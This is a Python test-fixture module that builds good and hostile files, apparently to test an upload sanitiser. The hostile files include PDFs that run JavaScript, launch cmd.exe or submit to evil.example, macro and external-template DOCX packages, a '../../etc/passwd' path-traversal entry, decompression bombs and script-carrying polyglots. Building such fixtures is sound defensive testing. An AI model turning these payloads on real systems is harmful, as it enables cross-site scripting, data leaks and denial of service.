"""Files made here, good and hostile, byte by byte."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

AS_IT_IS = pikepdf.StreamDecodeLevel.none
SCRIPT = b"<script>document.title='hacked'</script>"


def photo(side: int = 64, *, form: str = "JPEG", exif: bool = False, mode: str = "RGB") -> bytes:
    """A picture with a gradient; with `exif` it carries a position and lies on its side."""
    image = Image.linear_gradient("L").resize((side, side // 2)).convert(mode)
    if mode == "RGBA":
        image.putalpha(100)
    made, options = io.BytesIO(), {}
    if exif:
        tags = Image.Exif()
        tags[0x0112] = 6
        tags[0x010F] = "Nhà sản xuất"
        tags.get_ifd(0x8825).update({1: "N", 2: (21.0, 19.0, 36.0), 3: "E", 4: (103.0, 54.0, 0.0)})
        options["exif"] = tags
    image.save(made, form, **options)
    return made.getvalue()


def heic(side: int = 64) -> bytes:
    made = io.BytesIO()
    pillow_heif.from_pillow(Image.linear_gradient("L").resize((side, side)).convert("RGB")).save(made)
    return made.getvalue()


def moving(form: str) -> bytes:
    made, frames = io.BytesIO(), [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(made, form, save_all=True, append_images=frames[1:], duration=100)
    return made.getvalue()


def png_bomb(side: int = 50_000) -> bytes:
    """A PNG of `side` × `side` points in a few kilobytes."""
    packed = zlib.compressobj(9)
    rows = b"".join(packed.compress(bytes(1 + side // 8)) for _ in range(2_000)) + packed.flush()
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _png_chunk(name, data)
        for name, data in (
            (b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)),
            (b"IDAT", rows),
            (b"IEND", b""),
        )
    )


def _png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_with_text() -> bytes:
    made, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_text("Comment", "Lò Thị Hoa 014301012345")
    Image.new("RGB", (8, 8), "red").save(made, "PNG", pnginfo=info)
    return made.getvalue()


def pdf(change=None, **save) -> bytes:
    """A PDF of one page, after `change(pdf)`."""
    made = io.BytesIO()
    with pikepdf.new() as paper:
        paper.add_blank_page()
        if change:
            change(paper)
        paper.save(made, deterministic_id="encryption" not in save, **save)
    return made.getvalue()


def _root(key: str, value: object):
    def change(paper: pikepdf.Pdf) -> None:
        paper.Root[key] = value if isinstance(value, pikepdf.Object) else pikepdf.Object.parse(value)

    return change


def _bomb(paper: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(300 * 1024 * 1024), 9)
    paper.pages[0].Contents = pikepdf.Stream(paper, b"")
    paper.pages[0].Contents.write(packed, filter=pikepdf.Name.FlateDecode)


def _double_bomb(paper: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(bytes(10_000_000), 9), 9)
    stream = pikepdf.Stream(paper, b"")
    stream.write(packed, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
    paper.pages[0].Contents = stream


def _attachment(paper: pikepdf.Pdf) -> None:
    paper.attachments["evil.exe"] = b"MZ"


ACTIVE_PDFS = {
    "script": pdf(_root("/OpenAction", b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "hidden script": pdf(_root("/AA", b"<< /WC << /S /JavaScript /JS (app.alert(1)) >> >>")),
    "names": pdf(_root("/Names", b"<< /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>")),
    "launch": pdf(_root("/OpenAction", b"<< /S /Launch /F (cmd.exe) >>")),
    "remote": pdf(_root("/OpenAction", b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0] >>")),
    "submit": pdf(_root("/OpenAction", b"<< /S /SubmitForm /F (http://evil.example/) >>")),
    "xfa": pdf(_root("/AcroForm", b"<< /XFA (<xdp/>) /Fields [] >>")),
    "rich media": pdf(_root("/Odd", b"<< /Type /Annot /Subtype /RichMedia >>")),
    "attachment": pdf(_attachment),
}


def package(parts: dict[str, bytes], **options: object) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document xmlns:w='w'>xin</w:document>"}
XLSX = {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"}
ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office xmlns='o'/>"}
RELATION = (
    b'<Relationships><Relationship Type="http://x/%s" Target="http://evil.example/" TargetMode="External"/>'
    b"</Relationships>"
)
HOSTILE_PACKAGES = {
    "macros": package({**DOCX, "word/vbaProject.bin": b"x"}),
    "object": package({**DOCX, "word/embeddings/oleObject1.bin": b"x"}),
    "template": package({**DOCX, "word/_rels/settings.xml.rels": RELATION % b"attachedTemplate"}),
    "entities": package({**DOCX, "word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "broken xml": package({**DOCX, "word/document.xml": b"<a>"}),
    "program": package({**DOCX, "word/media/image1.png": b"MZ\x90"}),
    "climbing": package({**DOCX, "../../etc/passwd": b"x"}),
    "bomb": package({**DOCX, "word/media/zero.bin": bytes(150 * 1024 * 1024)}),
    "many": package({**DOCX, **{f"word/{number}.txt": b"" for number in range(2_100)}}),
    "no document": package({"a.txt": b"only an archive"}),
    "comment behind": package(DOCX) + SCRIPT,
    "cut": package(DOCX)[:-40],
}


def lying_package() -> bytes:
    """An archive whose directory says 10 bytes for a part of 150 MB."""
    data = bytearray(package({**DOCX, "word/media/zero.bin": bytes(150 * 1024 * 1024)}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/zero.bin"))
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def ogg(codec: bytes = b"OpusHead", *, seconds: int = 0) -> bytes:
    def page(body: bytes, number: int, played: int = 0) -> bytes:
        return (
            b"OggS\0\2" + struct.pack("<q", played) + struct.pack("<III", 1, number, 0) + bytes([1, len(body)]) + body
        )

    return (
        page(codec + b"\1\1\0\0\x80\xbb\0\0\0\0\0", 0) + page(b"OpusTags", 1) + page(b"\xfc" * 60, 2, seconds * 48_000)
    )


def box(name: bytes, *inside: bytes) -> bytes:
    data = b"".join(inside)
    return struct.pack(">I", 8 + len(data)) + name + data


def m4a(handler: bytes = b"soun", place: bytes = b"+21.3267+103.9000/", *, seconds: int = 0) -> bytes:
    clock = box(b"mdhd", bytes(12), struct.pack(">II", 44_100, seconds * 44_100), bytes(4))
    heard = box(b"hdlr", bytes(8), handler, bytes(12))
    track = box(b"trak", box(b"mdia", clock, heard))
    return box(b"ftyp", b"M4A ", bytes(4), b"isom") + box(b"moov", track, box(b"udta", place)) + box(b"mdat", bytes(50))


def element(name: bytes, *inside: bytes) -> bytes:
    data = b"".join(inside)
    return name + (0x0100000000000000 | len(data)).to_bytes(8, "big") + data


def webm(track: int = 2, *, live: bool = False, more: bytes = b"", seconds: int = 0) -> bytes:
    head = element(b"\x1a\x45\xdf\xa3", element(b"\x42\x82", b"webm"))
    tracks = element(b"\x16\x54\xae\x6b", element(b"\xae", element(b"\x83", bytes([track]))))
    cluster_body = element(b"\xe7", (seconds * 1000).to_bytes(4, "big")) + element(b"\xa3", bytes(20))
    if live:
        cluster = b"\x1f\x43\xb6\x75\x01" + b"\xff" * 7 + cluster_body
        return head + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + tracks + cluster + cluster + more
    return head + element(b"\x18\x53\x80\x67", tracks, element(b"\x1f\x43\xb6\x75", cluster_body)) + more


POLYGLOTS = {
    "jpeg+html": ("a.jpg", photo() + SCRIPT),
    "jpeg comment": ("a.jpg", photo()[:2] + b"\xff\xfe\x00\x2a" + SCRIPT + photo()[2:]),
    "gif+js": ("a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    "gif as jpeg": ("a.jpg", b"GIF89a" + bytes(20)),
    "svg": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "html": ("a.html", b"<!doctype html>" + SCRIPT),
    "html as pdf": ("a.pdf", b"<!doctype html>" + SCRIPT),
    "pdf late": ("a.pdf", SCRIPT + pdf()),
    "pdf+zip": ("a.pdf", pdf() + package({"a.txt": b"x"})),
    "pdf+html": ("a.pdf", pdf() + SCRIPT),
    "zip": ("a.zip", package({"a.txt": b"x"})),
    "exe": ("a.exe", b"MZ" + bytes(100)),
    "ogg+html": ("a.ogg", ogg() + SCRIPT),
    "m4a+html": ("a.m4a", m4a() + SCRIPT),
    "webm+html": ("a.webm", webm(more=SCRIPT)),
}


def bombs() -> dict[str, tuple[str, bytes]]:
    """Small files that grow without bound when they are opened carelessly."""
    return {
        "pdf deflate": ("a.pdf", pdf(_bomb)),
        "pdf twice deflated": ("a.pdf", pdf(_double_bomb, compress_streams=False, stream_decode_level=AS_IT_IS)),
        "png 50k": ("a.png", png_bomb()),
        "zip": ("a.docx", HOSTILE_PACKAGES["bomb"]),
        "zip that lies": ("a.docx", lying_package()),
        "gif+js": POLYGLOTS["gif+js"],
        "jpeg+html": POLYGLOTS["jpeg+html"],
    }
